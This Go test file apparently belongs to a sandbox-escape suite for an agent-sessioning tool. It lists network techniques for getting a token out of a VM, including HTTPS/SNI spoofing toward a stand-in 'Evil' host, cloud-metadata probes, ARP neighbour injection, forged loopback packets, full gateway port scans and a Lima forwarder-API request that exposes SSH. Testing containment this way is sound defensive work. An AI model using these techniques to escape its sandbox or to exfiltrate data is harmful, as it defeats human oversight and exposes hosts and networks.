//go:build linux && escape

package main

import (
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/netip"
	"os/exec"
	"strconv"
	"sync"
	"time"

	"github.com/agent-sessionizer/agent-sessionizer/test/escape/plan"
)

// addresses returns the techniques that use known addresses.
func addresses() map[string]func(*attempt) {
	get := func(addr string, port int) func(*attempt) {
		return func(a *attempt) { a.send(addr, port, a.get(addr)) }
	}
	each := func(port int, addrs ...string) func(*attempt) {
		return func(a *attempt) {
			for _, addr := range addrs {
				a.send(addr, port, a.get(addr))
			}
		}
	}
	return map[string]func(*attempt){
		"ip-http":       get(plan.Evil, 80),
		"ip-https":      func(a *attempt) { a.https(plan.Evil, 443, plan.EvilName, plan.EvilName) },
		"ip-host":       func(a *attempt) { a.send(plan.Evil, 80, a.get(plan.Allowed)) },
		"ip-sni":        func(a *attempt) { a.https(plan.Evil, 443, plan.Allowed, plan.Allowed) },
		"ip-cdn":        func(a *attempt) { a.https(plan.CDN, 443, plan.EvilCDN, plan.EvilCDN) },
		"ip-v6":         get(plan.Evil6, 80),
		"port-other":    get(plan.Allowed, 8081),
		"port-mail":     func(a *attempt) { a.send(plan.Allowed, 25, "EHLO "+a.token+"\r\n") },
		"port-rule":     get(plan.Allowed, plan.DBPort),
		"port-proxies":  proxies,
		"port-high":     highPorts,
		"fake-range":    fakeRange,
		"lan":           get(plan.LAN, 80),
		"neighbour":     each(80, plan.Neighbour, plan.Neighbour6, plan.Routed),
		"metadata":      each(80, "169.254.169.254", "168.63.129.16", "192.0.0.192", "100.100.100.200"),
		"private":       each(80, "10.255.0.1", "172.16.3.4", "172.31.255.1", "192.168.77.1", "192.168.6.1", "100.64.1.1", "240.1.2.3"),
		"host-public":   each(80, plan.HostPublic, plan.HostLAN),
		"host-gateway":  each(plan.HostPort, plan.Gateway),
		"host-docker":   each(plan.DockerPort, plan.Gateway, plan.HostPublic),
		"host-udp":      func(a *attempt) { a.datagrams(plan.Gateway, plan.HostUDPPort) },
		"host-lima":     hostLima,
		"host-1":        func(a *attempt) { a.asNeighbour("192.168.5.1", plan.HostPort) },
		"host-3":        func(a *attempt) { a.asNeighbour(plan.StockDNS, plan.HostPort) },
		"host-254":      func(a *attempt) { a.asNeighbour("192.168.5.254", plan.HostPort) },
		"host-127":      func(a *attempt) { a.martian("127.0.0.1") },
		"host-0":        func(a *attempt) { a.martian("0.0.0.0") },
		"host-v6":       each(plan.HostPort, "fec0::2", plan.HostPublic6),
		"gateway-scan":  gatewayScan,
		"gateway-udp":   gatewayUDP,
		"gateway-api":   gatewayAPI,
		"gateway-tftp":  func(a *attempt) { a.datagrams(plan.Gateway, 69) },
		"vm-guest":      vmGuest,
		"vm-ssh":        vmSSH,
		"vm-ssh-public": func(a *attempt) { a.send(plan.HostPublic, a.sshPort, a.token+"\r\n") },
	}
}

func proxies(a *attempt) {
	for _, port := range []int{1080, 3128} {
		a.send(plan.Evil, port, "CONNECT "+plan.EvilName+":443 HTTP/1.1\r\nHost: "+a.token+"\r\n\r\n")
		a.send(plan.Allowed, port, "CONNECT "+plan.EvilName+":443 HTTP/1.1\r\nHost: "+a.token+"\r\n\r\n")
	}
}

func highPorts(a *attempt) {
	for _, port := range plan.HighPorts {
		a.send(plan.Evil, port, a.token)
		a.send(plan.Allowed, port, a.token)
	}
}

// fakeRange guesses addresses in the range from which names get theirs, and dials
// them.
func fakeRange(a *attempt) {
	for range 20 {
		addr := netip.AddrFrom4([4]byte{198, byte(18 + rand.IntN(2)), byte(rand.IntN(256)), byte(1 + rand.IntN(254))})
		a.send(addr.String(), 80, a.get(addr.String()))
	}
}

func hostLima(a *attempt) {
	for _, name := range []string{"host.lima.internal", "host.docker.internal", "gateway.docker.internal", "localhost"} {
		a.send(name, plan.HostPort, a.get(name))
	}
	// Lima also writes it to the guest's hosts file.
	if addrs, err := net.LookupHost("host.lima.internal"); err == nil && len(addrs) > 0 {
		a.send(addrs[0], plan.HostPort, a.get("localhost"))
	}
	a.send(plan.Gateway, plan.HostPort, a.get("127.0.0.1"))
}

// asNeighbour sends to an address of the guest's own network that no host answers ARP
// for, through the gateway's card.
func (a *attempt) asNeighbour(addr string, port int) {
	a.ask("udp", net.JoinHostPort(plan.Gateway, "53"), plan.Allowed, 1)
	if _, err := neighbour(addr); err != nil {
		mac, err := neighbour(plan.Gateway)
		if err != nil {
			say("gateway: %v", err)
			return
		}
		ipCommand("neigh", "replace", addr, "lladdr", mac.String(), "dev", device())
		defer ipCommand("neigh", "del", addr, "dev", device())
	}
	a.send(addr, port, a.get(addr))
	a.datagrams(addr, plan.HostUDPPort)
}

func ipCommand(args ...string) {
	if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
		say("ip %v: %v %s", args, err, out)
	}
}

// device returns the name of the card toward the gateway.
func device() string {
	interfaces, err := net.Interfaces()
	if err != nil {
		return ""
	}
	for _, i := range interfaces {
		addrs, _ := i.Addrs()
		for _, addr := range addrs {
			if p, err := netip.ParsePrefix(addr.String()); err == nil && p.Addr().String() == plan.Guest {
				return i.Name
			}
		}
	}
	return ""
}

// martian sends packets that no kernel sends: a datagram and a SYN for the host's own
// loopback address.
func (a *attempt) martian(dst string) {
	withCard(func(a *attempt, c *card) {
		h := header4{src: plan.Guest, dst: dst, proto: protoUDP}
		c.out(h.packet(h.udp(plan.HostUDPPort, a.token)))
		h.proto = protoTCP
		c.out(h.packet(h.tcp(40001, plan.HostPort, 1000, 0, flagSYN, nil, "")))
	})(a)
}

// gatewayScan connects to every port of the gateway and talks to what answers.
func gatewayScan(a *attempt) {
	ports := make(chan int)
	var all sync.WaitGroup
	for range 200 {
		all.Go(func() {
			for port := range ports {
				c, err := net.DialTimeout("tcp", net.JoinHostPort(plan.Gateway, strconv.Itoa(port)), connectTime)
				if err != nil {
					continue
				}
				_, err = io.WriteString(c, a.get("localhost"))
				say("tcp %d: open; %s %v", port, answer(c), err)
				c.Close()
			}
		})
	}
	for port := 1; port < 1<<16; port++ {
		ports <- port
	}
	close(ports)
	all.Wait()
}

func gatewayUDP(a *attempt) {
	c, err := net.ListenUDP("udp4", nil)
	if err != nil {
		say("udp: %v", err)
		return
	}
	defer c.Close()
	for _, port := range []int{7, 9, 19, 67, 68, 69, 111, 123, 137, 138, 161, 443, 500, 514, 631, 1194, 1900, 2049, 3544, 4500, 4789, 5353, 5355, 6081, 51820, plan.HostUDPPort} {
		if _, err := c.WriteTo([]byte(a.token), &net.UDPAddr{IP: net.ParseIP(plan.Gateway), Port: port}); err != nil {
			say("udp %d: %v", port, err)
		}
	}
	b := make([]byte, 2048)
	_ = c.SetReadDeadline(time.Now().Add(answerTime)) // the read reports an error
	for {
		n, from, err := c.ReadFrom(b)
		if err != nil {
			return
		}
		say("udp: %v answers %q", from, b[:n])
	}
}

// gatewayAPI sends the requests that Lima sends to its user-v2 daemon. The stock
// daemon serves them to the guest too, at the gateway's address.
func gatewayAPI(a *attempt) {
	body := fmt.Sprintf(`{"local":"%s:7777","remote":"%s:22","protocol":"tcp"}`, plan.HostPublic, plan.Guest)
	for _, port := range []int{80, 8080, 53} {
		for _, path := range []string{"/services/forwarder/all", "/services/dhcp/leases", "/stats", "/cam"} {
			a.send(plan.Gateway, port, "GET "+path+"?"+a.token+" HTTP/1.1\r\nHost: gateway\r\n\r\n")
		}
		a.send(plan.Gateway, port, fmt.Sprintf("POST /services/forwarder/expose HTTP/1.1\r\nHost: gateway\r\nContent-Length: %d\r\n\r\n%s", len(body), body))
	}
	a.send(plan.Allowed, 80, "POST /services/forwarder/expose HTTP/1.1\r\nHost: "+plan.Gateway+"\r\nContent-Length: 0\r\n\r\n")
}

// vmGuest searches for another VM on the guest's own network.
func vmGuest(a *attempt) {
	var all sync.WaitGroup
	for i := 1; i < 255; i++ {
		addr := fmt.Sprintf("192.168.5.%d", i)
		if addr == plan.Guest || addr == plan.Gateway { // another technique covers the gateway's ports
			continue
		}
		all.Go(func() {
			for _, port := range []string{strconv.Itoa(plan.GuestPort), "22"} {
				c, err := net.DialTimeout("tcp", net.JoinHostPort(addr, port), connectTime)
				if err != nil {
					continue
				}
				_, err = io.WriteString(c, a.get(addr))
				say("tcp %s:%s: open; %s %v", addr, port, answer(c), err)
				c.Close()
			}
		})
	}
	all.Wait()
}

// vmSSH tries to reach the second VM's SSH server through its port on the host.
func vmSSH(a *attempt) {
	for _, addr := range []string{plan.Gateway, "host.lima.internal"} {
		a.send(addr, a.sshPort, a.token+"\r\n")
	}
}
